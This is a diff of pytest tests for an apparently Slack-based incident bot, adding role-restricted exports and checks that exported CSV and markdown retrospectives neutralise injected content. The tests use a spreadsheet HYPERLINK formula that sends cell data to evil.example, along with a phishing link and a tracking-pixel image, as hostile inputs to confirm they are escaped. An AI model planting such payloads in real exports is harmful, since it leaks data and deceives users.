@@ -149,7 +149,7 @@ def test_md_retrospective_figures_and_plain_escaping(bot: Harness, tmp_path: Pat
     assert "[x] Disable the flag" in md and "Rollback #1: step 2 not ticked: Run the rollback script" in md
     assert "| 10:30 | T+30m | 1 | 123 ms |" in md  # INC-2 still open; the probe's latest reading at that time
     assert "| 11:00 | T+1h | 1 | failed (ConnectError) |" in md
-    assert "- [ ] Close INC-2 [High]" in md and "incident.escalated" in md
+    assert "- [ ] Close INC-2 \\[High\\]" in md and "incident.escalated" in md  # shown as [High]
 
 
 def test_a_launch_with_no_events_exports_cleanly(bot: Harness, tmp_path: Path) -> None:
@@ -182,7 +182,7 @@ def test_cli_names_unknown_launches_and_missing_records(bot: Harness, tmp_path: 
 def test_export_command_uploads_the_file(bot: Harness) -> None:
     bot.slash("/incident", "sev2 " + NASTY)
     r = bot.slash("/export", "csv", user="U0CX")
-    assert "it will appear in this channel" in r.json()["text"]
+    assert "it will appear in the war room" in r.json()["text"]
     bot.deliver()
     url_calls = bot.standin.calls_to("files.getUploadURLExternal")
     complete = bot.standin.calls_to("files.completeUploadExternal")
@@ -212,4 +212,41 @@ def test_export_upload_failure_is_kept_and_reported(bot: Harness) -> None:
     bot.deliver()
     failed = [m for m in bot.outbox() if m.method == "files.upload"]
     assert failed[0].status == "failed" and failed[0].error == "not_in_channel"
-    assert any("could not deliver" in p["text"] for p in bot.posts("C0WARROOM"))
+    # the file was for the war room itself: the failure is kept on the audit trail (and logged)
+    assert [e.payload["error"] for e in bot.events("outbox.undeliverable")] == ["not_in_channel"]
+
+
+def test_only_role_holders_export_and_always_to_the_war_room(bot: Harness) -> None:
+    bot.slash("/incident", "sev2 search slow")
+    r = bot.slash("/export", "ndjson", user="U0OUTSIDER", channel="C0OPERATORS")
+    assert "Only role holders can export" in r.json()["text"]
+    assert [m for m in bot.outbox() if m.method == "files.upload"] == []
+    assert bot.events("command.refused")[0].payload["command"] == "/export"
+    bot.slash("/export", "ndjson", user="U0CX", channel="C0OPERATORS")  # a role holder, from the broadcast channel
+    bot.deliver()
+    (complete,) = bot.standin.calls_to("files.completeUploadExternal")
+    assert complete.args["channel_id"] == "C0WARROOM"
+
+
+def test_csv_cells_never_run_as_formulas(bot: Harness) -> None:
+    formula = '=HYPERLINK("https://evil.example/?x="&B2,"Click")'
+    bot.slash("/incident", "sev2 " + formula)
+    bot.slash("/incident", "sev3 @SUM(1+1)")
+    bot.slash("/export", "csv")
+    bot.deliver()
+    uploaded = next(iter(bot.standin.uploads.values())).decode()
+    summaries = [row["summary"] for row in csv.DictReader(io.StringIO(uploaded, newline=""))]
+    assert summaries == ["'" + formula, "'@SUM(1+1)"]
+
+
+def test_user_text_forms_no_link_or_image_in_the_retrospective(bot: Harness) -> None:
+    from markdown_it import MarkdownIt
+
+    bot.slash("/incident", "sev2 see [the runbook](https://evil.example/phish) ![x](https://evil.example/pixel.png)")
+    bot.slash("/incident", "update INC-1 mail evil@example.com or https://evil.example/x or www.evil.example")
+    bot.slash("/export", "md")
+    bot.deliver()
+    retro = next(iter(bot.standin.uploads.values())).decode()
+    html = MarkdownIt("gfm-like").render(retro)
+    assert "evil.example" in html  # the text is there, as text
+    assert "evil.example" not in "".join(part for part in html.split("<a ")[1:]) and "<img" not in html
